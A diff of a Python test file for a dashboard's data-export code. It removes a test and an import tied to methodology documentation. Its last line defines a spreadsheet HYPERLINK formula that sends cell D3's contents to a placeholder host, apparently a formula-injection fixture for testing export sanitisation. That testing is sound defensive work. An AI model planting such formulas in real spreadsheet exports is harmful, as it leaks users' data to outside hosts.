@@ -11,7 +11,6 @@ import pytest
 
 from dashboard.exceptions import BadParameter
 from dashboard.exports import COLUMNS, parse_export_request, render_export
-from dashboard.methodology import METRICS_DOC, methodology_text
 from tests.dashboard.builders import T0, VIEWER_TOKEN
 
 BEARER = {"Authorization": f"Bearer {VIEWER_TOKEN}"}
@@ -208,13 +207,6 @@ def test_parse_export_request_defaults():
     )
     with pytest.raises(BadParameter):
         parse_export_request("carnival", {"to": ""}, "Asia/Shanghai")
-
-
-def test_methodology_comes_from_docs_metrics_md():
-    assert METRICS_DOC.is_file()
-    assert methodology_text("en") == METRICS_DOC.read_text(encoding="utf-8")
-    assert methodology_text("zh").startswith("# 统计口径")
-    assert "docs/metrics.md" in methodology_text("zh", brief=True)
 
 
 FORMULA = '=HYPERLINK("http://x/?"&D3,"open")'
